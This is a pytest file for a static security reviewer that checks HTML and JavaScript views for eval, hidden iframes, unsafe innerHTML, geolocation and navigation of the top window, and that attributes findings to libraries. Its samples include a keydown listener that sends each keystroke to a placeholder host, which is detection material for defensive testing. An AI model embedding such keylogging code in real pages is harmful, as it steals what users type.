"""The security review reads HTML and JavaScript as parsers do, and tells the author's code from libraries."""

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from fanlight.dev.source_lines import Place
from fanlight.rules.javascript import Position, Script
from fanlight.rules.observation import Document
from fanlight.rules.rule import Problem
from fanlight.rules.table import BY_NAME
from support.docs import ROOT

CHART = ROOT / "node_modules" / "chart.js" / "dist" / "chart.umd.min.js"
RULES = ("REV-01", "REV-03", "REV-06", "REV-08", "REV-11", "REV-14", "REV-15", "REV-16")
KEYS = 'document.addEventListener("keydown", (e) => { all += e.key; });'


def document(body: str, **ui: Any) -> Document:
    return Document("ui://x/view", f'<!doctype html>\n<html lang="en">\n<title>x</title>\n{body}\n</html>', ui)


def script(code: str, **ui: Any) -> Document:
    return document(f"<script>\n{code}\n</script>", **ui)


def review(view: Document, *rules: str) -> list[Problem]:
    return [problem for rule in rules or RULES for problem in BY_NAME[rule].problems(view)]


CODE = {
    "REV-01": 'fetch("https://api.example.com/v1")',
    "REV-03": "eval(words)",
    "REV-06": 'document.addEventListener("keydown", (e) => fetch("https://there.example/" + e.key))',
    "REV-08": 'const f = document.createElement("iframe"); f.hidden = true;',
    "REV-11": "top.location = there",
    "REV-14": 'const f = document.createElement("iframe"); f.src = there;',
    "REV-15": "out.innerHTML = result.structuredContent.html;",
    "REV-16": "navigator.geolocation.getCurrentPosition(go)",
}


@pytest.mark.parametrize("rule", RULES)
def test_code_in_comments_strings_and_markup_is_not_code(rule: str) -> None:
    code = CODE[rule]
    assert review(script(code), rule)
    assert review(script(f"// {code}"), rule) == []
    assert review(script(f"/* {code} */ go();"), rule) == []
    assert review(script(f"const text = {json.dumps(code)};"), rule) == []
    assert review(script(f"const pattern = /{code.split('(')[0]}/;"), rule) == []
    assert review(document(f"<pre>{code}</pre>"), rule) == []
    assert review(document(f'<script type="text/plain">{code}</script>'), rule) == []


@pytest.mark.parametrize(
    ("rule", "code"),
    [
        ("REV-03", "function eval(text) { return text; }\neval(words);"),
        ("REV-03", "setTimeout(() => 'go()', 10)"),
        ("REV-03", "const run = { Function };\nrun.Function('x')"),
        ("REV-11", "const top = { location: 1 };\nshow(top.location);"),
        ("REV-11", "function walk(parent) { return parent.document; }"),
        ("REV-11", "node.parent.location.top"),
        ("REV-15", "const { name } = result.structuredContent;\nout.innerHTML = `<b>${name.length}</b>`;"),
        ("REV-15", "const data = r.structuredContent;\nfunction show(data) { out.innerHTML = data; }"),
        ("REV-16", "fake.geolocation.getCurrentPosition(go)"),
        ("REV-06", f"{KEYS}\n{{ const all = 1; app.sendMessage({{ all }}); }}"),
    ],
)
def test_names_are_resolved_to_their_declarations(rule: str, code: str) -> None:
    assert [problem for problem in review(script(code), rule) if not problem.is_guess] == []


@pytest.mark.parametrize(
    "code",
    [
        "app.ontoolresult = ({ content }) => { out.innerHTML = content[0].text; };",
        "const result = await app.callServerTool({ name: 'x' });\nout.innerHTML = '<p>' + result.content[0].text;",
        "const rows = r.structuredContent.rows;\nout.innerHTML = rows.map((row) => `<td>${row.name}</td>`).join('');",
        "const rows = r.structuredContent.rows;\n"
        "out.innerHTML = rows.map((row) => {\n  return '<td>' + row.name;\n}).join('');",
        "out.innerHTML = flag ? window.openai.toolOutput.html : '';",
    ],
)
def test_the_data_of_a_tool_is_followed_into_html(code: str) -> None:
    (problem,) = review(script(code), "REV-15")
    assert not problem.is_guess
    assert "innerHTML" in problem.message


@pytest.mark.parametrize(
    ("rule", "code", "ui"),
    [
        ("REV-06", f"{KEYS}\nsetInterval(() => fetch(there), 10)", {"csp": {"connectDomains": ["https://a.example"]}}),
        ("REV-06", f"{KEYS}\napp.sendMessage(message);", {}),
        ("REV-14", 'document.body.append(document.createElement("iframe"))', {}),
        ("REV-15", "out.innerHTML = render(result.structuredContent);", {}),
    ],
)
def test_what_the_code_does_not_prove_is_a_guess(rule: str, code: str, ui: dict[str, Any]) -> None:
    (problem,) = review(script(code, **ui), rule)
    assert problem.is_guess
    assert problem.severity == "low"


def test_a_position_is_exact_also_after_other_characters() -> None:
    code = 'const a = "äöü€"; /* 😀 */ eval(words)'
    parsed = Script(code, Position(5, 1))
    (match,) = parsed.find("calls")
    line, column = parsed.position_of(match["call"])
    assert (line, column) == (5, 1 + code.index("eval"))
    (problem,) = review(script(code), "REV-03")
    assert problem.line == 5


LIBRARY = "/*! Boxes v1.2.3 */\n" + ";".join(["var a=1", *(f"a+={i}" for i in range(400)), "top.location=a", "eval(a)"])


def test_a_finding_in_minified_code_names_the_library_and_not_the_author() -> None:
    view = document(f"<script>{LIBRARY}</script>\n<script>\nparent.document.title = 1;\n</script>")
    own, library = review(view, "REV-11")
    assert (own.library, own.line) == (None, 7)
    assert library.library == "Boxes v1.2.3"
    (evaluated,) = review(view, "REV-03")
    assert evaluated.library == "Boxes v1.2.3"


def test_a_finding_in_a_file_of_a_library_names_the_file(tmp_path: Path) -> None:
    vendored = tmp_path / "vendor" / "boxes.js"
    vendored.parent.mkdir()
    vendored.write_text("eval(words);\n", encoding="utf-8")
    view = replace(script("eval(words);"), place=lambda line, column: Place("vendor/boxes.js", 1, vendored))
    (problem,) = review(view, "REV-03")
    assert (problem.library, problem.path, problem.line) == ("vendor/boxes.js", vendored, 1)


def test_a_real_library_is_not_blamed_on_the_author() -> None:
    library = CHART.read_text(encoding="utf-8")
    view = document(f"<script>{library}</script><script>new Chart(canvas, {{}})</script>")
    assert [problem for problem in review(view) if problem.library is None] == []
    with_own = document(f"<script>{library}</script><script>\neval(words)\n</script>")
    assert [problem.library for problem in review(with_own, "REV-03")] == [None]


def test_a_file_written_by_hand_is_the_authors_even_with_a_long_line() -> None:
    data = "const points = [" + ",".join(map(str, range(300))) + "];"
    code = "\n".join(
        [data, *(f"show({i}, points); // the point with the number {i}" for i in range(60)), "eval(words)"]
    )
    (problem,) = review(script(code), "REV-03")
    assert problem.library is None


@pytest.mark.parametrize("code", ["let x = ;", "function (", "`${", "\0", "<!-- x", "return 1", "import", "{" * 2_000])
def test_broken_scripts_are_reviewed_as_far_as_they_can_be_read(code: str) -> None:
    view = script(f"{code}\n;eval(words);")
    review(view)
